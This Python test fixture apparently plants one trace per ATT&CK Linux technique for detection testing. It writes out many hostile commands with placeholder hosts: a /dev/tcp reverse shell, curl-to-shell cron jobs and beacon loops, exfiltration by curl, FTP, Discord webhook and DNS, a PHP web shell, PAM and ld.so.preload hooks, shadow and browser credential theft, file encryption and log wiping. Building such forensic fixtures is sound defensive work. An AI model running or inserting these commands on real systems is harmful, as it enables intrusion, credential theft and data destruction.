"""Linux techniques that leave traces at rest, and one use of each: ids of ATT&CK v19.1, chosen from those that Atomic Red Team tests on Linux.

The uses are this project's own: what an intruder types, what a service logs, which file stays. None is copied from a test.
"""

from __future__ import annotations

from datetime import UTC, datetime

from tests.toolkit.techniques.plants import Audited, Logged, Put, Technique, Trace, Typed

_ELF = "\x7fELF\x02\x01\x01" + "\0" * 57
_NAMES = ("admin", "backup", "old", "test", "api", "phpmyadmin", "dev", "config", "db", "tmp")
_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{b64} {n}@{m}\n"
_CERTIFICATE = "-----BEGIN CERTIFICATE-----\n{b64}\n-----END CERTIFICATE-----\n"


def _t(technique: str, *traces: Trace | str) -> Technique:
    """A technique; a bare text is a command that root typed."""
    return Technique(technique, tuple(Typed(trace) if isinstance(trace, str) else trace for trace in traces))


def _failed(count: int, user: str = "{n}", each: float = 4, address: str = "{ip}") -> tuple[Logged, ...]:
    line = f"sshd[{{pid}}]: Failed password for {user} from {address} port {{port}} ssh2"
    return tuple(Logged("auth", line, after=number * each) for number in range(count))


TECHNIQUES: tuple[Technique, ...] = (
    _t("T1001.002", "steghide embed -q -cf /srv/{n}.jpg -ef {tmp}/{w}.txt -p {m}"),
    _t("T1003.007", Audited("gcore -o {tmp}/{w} {pid}")),
    _t("T1003.008", "cp /etc/shadow {tmp}/{w}.txt"),
    _t("T1005", "sqlite3 /var/lib/{w}/{n}.db .dump > {tmp}/{m}.sql"),
    _t("T1007", Audited("systemctl list-units --type=service --all")),
    _t("T1014", "git clone https://{dom}/{w}/Diamorphine.git && cd Diamorphine && make"),
    _t("T1016", Audited("ip addr show")),
    _t("T1016.001", "ping -c 3 1.1.1.1"),
    _t("T1018", "for i in $(seq 1 254); do ping -c 1 -W 1 10.{num}.0.$i | grep 'bytes from'; done"),
    _t("T1027", "echo {b64} | base64 -d | bash"),
    _t("T1027.001", Audited("sh -c dd if=/dev/urandom bs=1M count={num} >> /opt/{n}/{w}")),
    _t("T1027.002", "upx --best -o {n} {w}"),
    _t("T1027.004", "gcc -O2 -pthread -o {w} {w}.c && ./{w}"),
    _t("T1027.013", Audited("openssl enc -aes-256-cbc -pbkdf2 -k {m} -in {w}.sh -out {w}.dat")),
    _t("T1030", "split -b {num}m {tmp}/{w}.tgz {tmp}/{n}."),
    _t("T1033", Audited("whoami")),
    _t("T1036.003", Audited("cp /usr/bin/python3.11 /usr/local/bin/{w}")),
    _t(
        "T1036.004",
        Put("/etc/systemd/system/systemd-{w}d.service", "[Service]\nExecStart=/usr/local/lib/{n}/{m} --daemon\n[Install]\nWantedBy=multi-user.target\n"),
        "systemctl enable --now systemd-{w}d.service",
    ),
    _t("T1036.005", Put("/usr/local/lib/{w}/crond", _ELF, 0o755), "/usr/local/lib/{w}/crond -f &"),
    _t("T1036.006", "mv {w}.sh 'invoice {w}.pdf '"),
    _t("T1036.007", Put("/home/admin/{w}.pdf.sh", "#!/bin/sh\nid\n", 0o755), Typed("./{w}.pdf.sh", "admin")),
    _t("T1036.008", "cp /opt/{n}/{w}.elf /srv/{w}.png"),
    _t("T1037.004", Put("/etc/rc.local", "#!/bin/sh\n/usr/local/share/{n}/.{w} -d &\nexit 0\n", 0o755)),
    _t("T1040", Audited("tcpdump -i any -w {tmp}/{w}.pcap port 3306")),
    _t("T1046", "for p in 22 80 443 3306 6379; do nc -z -w 1 10.0.{num}.7 $p && echo $p {w}; done"),
    _t("T1048", "tar cz /srv/{w} | ssh {n}@{ip} 'cat > {m}.tgz'"),
    _t("T1048.002", "curl -s -F 'f=@{tmp}/{w}.tgz' https://{dom}/{n}"),
    _t("T1048.003", Audited("curl -T {tmp}/{w}.tgz ftp://{ip}/in/")),
    _t("T1049", Audited("ss -tanp")),
    _t(
        "T1053.002",
        Put("/var/spool/cron/atjobs/a0000{num}01c0b1a2", "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'x' >&2\n\t exit 1\n}\n{tmp}/{w} -q\n", 0o700),
    ),
    _t("T1053.003", Put("/etc/cron.d/{w}", "*/{num} * * * * root curl -fsSL http://{ip}/{n}.sh | sh\n")),
    _t(
        "T1053.006",
        Put("/etc/systemd/system/{w}.timer", "[Timer]\nOnCalendar=*:0/{num}\nUnit={w}.service\n[Install]\nWantedBy=timers.target\n"),
        Put("/etc/systemd/system/{w}.service", "[Service]\nExecStart={tmp}/.{n}\n"),
        "systemctl enable --now {w}.timer",
    ),
    _t("T1055.009", "dd if={tmp}/{w}.bin of=/proc/{pid}/mem bs=1 seek=$((0x7f{num}0000)) conv=notrunc"),
    _t("T1056.001", Audited("logkeys --start --output {tmp}/{w}.log")),
    _t("T1057", Audited("ps -eo pid,user,args")),
    _t("T1059.004", Audited("bash -c bash -i >& /dev/tcp/{ip}/{port} 0>&1")),
    _t("T1059.006", "python3 -c 'import os,urllib.request as u;exec(u.urlopen(\"http://{dom}/{w}\").read())'"),
    _t("T1068", "curl -sO https://{dom}/{w}/linpeas.sh; sh linpeas.sh > {tmp}/{w}.txt"),
    _t("T1069.001", Audited("getent group sudo")),
    _t("T1069.002", "ldapsearch -x -H ldap://10.0.{num}.3 -b dc={n},dc=local '(objectClass=group)' cn"),
    _t("T1070.003", "cat /dev/null > ~/.bash_history; history -c; echo {w}"),
    _t("T1070.004", Audited("shred -zu {tmp}/{w}.sh")),
    _t("T1070.006", Put("/usr/local/sbin/{w}", _ELF, 0o755, modified=datetime(2024, 3, 5, 6, 7, 8, tzinfo=UTC)), "touch -r /bin/ls /usr/local/sbin/{w}"),
    _t("T1070.008", "rm -f /var/mail/{w}"),
    _t("T1071.001", "while :; do curl -s -A 'Mozilla/5.0' http://{ip}:{port}/{w}?id=$(hostname) | sh; sleep {num}; done"),
    _t("T1074.001", "mkdir -p {tmp}/.{w} && cp -r /srv/{n} /etc/{m} {tmp}/.{w}/"),
    _t("T1078.003", Audited("usermod -s /bin/bash -U games")),
    _t("T1082", Audited("uname -a")),
    _t("T1083", "find / -xdev -name '*.{n}' -size +1M 2>/dev/null"),
    _t("T1087.001", Audited("cut -d: -f1,3,7 /etc/passwd")),
    _t("T1087.002", "ldapsearch -x -H ldap://10.0.{num}.4 -b dc={n},dc=local '(objectClass=user)' sAMAccountName"),
    _t("T1090.001", Audited("socat TCP-LISTEN:{port},fork TCP:10.0.{num}.9:3389")),
    _t("T1090.003", "torsocks curl -s http://{w}{n}{m}.onion/{num}"),
    _t("T1095", "hping3 --icmp --sign {w} -d 120 -E {tmp}/{n} {ip}"),
    _t("T1098.004", Put("/root/.ssh/authorized_keys", _KEY, 0o600), "echo '" + _KEY.strip() + "' >> /root/.ssh/authorized_keys"),
    _t("T1102.002", "curl -s https://api.telegram.org/bot{num}:{w}/getUpdates"),
    _t("T1105", Audited("wget -q http://{ip}:{port}/{w} -O /usr/local/bin/{n}")),
    _t("T1110.001", *_failed(12, "root")),
    _t("T1110.004", "hydra -C {tmp}/{w}.txt ssh://10.0.{num}.5"),
    _t("T1113", Audited("xwd -root -silent -display :0 -out {tmp}/{w}.xwd")),
    _t("T1115", "xclip -o -selection clipboard > {tmp}/{w}"),
    _t("T1124", Audited("timedatectl")),
    _t("T1132.001", "xxd -p /srv/{w}.csv | while read l; do dig +short $l.{dom}; done"),
    _t("T1135", "smbclient -L //10.0.{num}.8 -N -U {w}"),
    _t("T1136.001", Logged("auth", "useradd[{pid}]: new user: name={w}, UID=1042, GID=1042, home=/home/{w}, shell=/bin/bash, from=/dev/pts/0")),
    _t("T1136.002", Audited("samba-tool user create {w} {n}")),
    _t("T1140", "base64 -d {w}.b64 > {n}.bin"),
    _t("T1201", Audited("chage -l root")),
    _t("T1217", "cp /home/admin/.mozilla/firefox/{w}.default/places.sqlite {tmp}/{n}"),
    _t("T1222.002", Audited("chmod -R 777 /srv/{w}")),
    _t("T1485", "find /srv/{w} -type f -exec shred -n 3 -u {} +"),
    _t("T1486", "for f in /srv/{w}/*; do openssl enc -aes-256-cbc -k {n} -in $f -out $f.{m} && rm -f $f; done"),
    _t("T1489", Audited("systemctl stop mariadb")),
    _t("T1496", Put("/etc/systemd/system/{w}.service", "[Service]\nExecStart=/opt/{n}/xmrig -o stratum+tcp://{dom}:{port} -u {hex}\n"), "/opt/{n}/xmrig -o {dom}:{port} --donate-level 1 -u {w}"),
    _t("T1497.001", Audited("systemd-detect-virt")),
    _t("T1497.003", "sleep 3{num}00 && ./{w}"),
    _t("T1505.003", Put("/var/www/html/{n}/{w}.php", "<?php if(isset($_POST['{m}'])){ echo shell_exec($_POST['{m}']); }\n")),
    _t("T1518.001", "ps aux | egrep -i 'falcon|wazuh|clam|osquery|{w}'"),
    _t("T1529", Audited("shutdown -r now")),
    _t("T1531", Audited("usermod -L {w}")),
    _t("T1543.002", Put("/etc/systemd/system/{w}.service", "[Service]\nExecStart=/bin/sh -c '/usr/share/.{n}/{m} &'\nRestart=always\n")),
    _t("T1546.004", Put("/home/admin/.bashrc", "case $- in *i*) ;; esac\n(nohup {tmp}/.{w} >/dev/null 2>&1 &)\n")),
    _t("T1546.005", "trap '{tmp}/{w}.sh' EXIT"),
    _t("T1546.018", Put("/usr/lib/python3/dist-packages/{w}.pth", "import os; os.system('{tmp}/.{n} &')\n")),
    _t("T1547.006", "insmod {tmp}/{w}.ko", Logged("system", "kernel: [ 7{num}1.5] {w}: loading out-of-tree module taints kernel.", after=1)),
    _t("T1548.001", Put("/usr/local/bin/{w}", _ELF, 0o4755)),
    _t("T1548.003", Put("/etc/sudoers.d/{w}", "{w} ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    _t("T1552.001", "grep -rniE 'passwd|password' /srv/{w} /opt/{n} --include='*.conf'"),
    _t("T1552.003", "cat /home/*/.bash_history | grep -i {w}"),
    _t("T1552.004", Audited("find / -name id_rsa -o -name *.pem")),
    _t("T1552.005", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{w}"),
    _t("T1552.007", Audited("kubectl get secrets -A -o yaml")),
    _t("T1553.004", Put("/usr/local/share/ca-certificates/{w}.crt", _CERTIFICATE), "update-ca-certificates"),
    _t("T1555.003", "cp /home/admin/.config/google-chrome/Default/'Login Data' {tmp}/{w}"),
    _t("T1556.003", Put("/etc/pam.d/common-auth", "auth sufficient pam_exec.so quiet expose_authtok /usr/lib/{n}/.{w}\nauth required pam_unix.so\n")),
    _t("T1560.001", "tar czf {tmp}/{w}.tgz /home /srv/{n}"),
    _t("T1560.002", "python3 -c 'import shutil; shutil.make_archive(\"{tmp}/{w}\", \"zip\", \"/srv/{n}\")'"),
    _t("T1564.001", Put("/usr/lib/.{w}/{n}", _ELF, 0o755)),
    _t("T1567.002", "rclone copy /srv/{w} {n}:{m} --transfers 8"),
    _t("T1567.004", "curl -s -F file=@{tmp}/{w}.txt https://discord.com/api/webhooks/{num}/{n}"),
    _t("T1569.003", "systemctl start {w}.service"),
    _t("T1571", Audited("nc -lvnp {port} -e /bin/sh")),
    _t("T1572", "ssh -fN -R {port}:localhost:22 {n}@{dom}"),
    _t("T1574.006", Put("/etc/ld.so.preload", "/usr/local/lib/{w}.so\n"), Put("/usr/local/lib/{w}.so", _ELF, 0o755)),
    _t("T1580", Audited("aws ec2 describe-instances --region eu-west-{num}")),
    _t("T1595.003", *(Logged("web", f'{{ip}} - - [@] "GET /{name} HTTP/1.1" 404 162 "-" "gobuster/3.6"', after=number * 0.2)
                      for number, name in enumerate(f"{first}{second}" for first in _NAMES for second in ("", ".bak", ".old", "{w}", ".zip")))),
    _t("T1611", "docker run --rm -v /:/mnt --privileged alpine chroot /mnt sh -c {w}"),
    _t("T1614", "curl -s https://ipinfo.io/json"),
    _t("T1614.001", Audited("localectl status")),
    _t("T1652", Audited("lsmod")),
    _t("T1685", Audited("systemctl disable --now falcon-sensor")),
    _t("T1685.002", "aws cloudtrail stop-logging --name {w}"),
    _t("T1685.004", Audited("auditctl -e 0")),
    _t("T1685.006", "truncate -s 0 /var/log/auth.log /var/log/{w}.log"),
    _t("T1686", Audited("iptables -F")),
    _t("T1689", "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config # {w}"),
    _t("T1690", "export HISTFILE=/dev/null; ./{w}"),
)  # fmt: skip
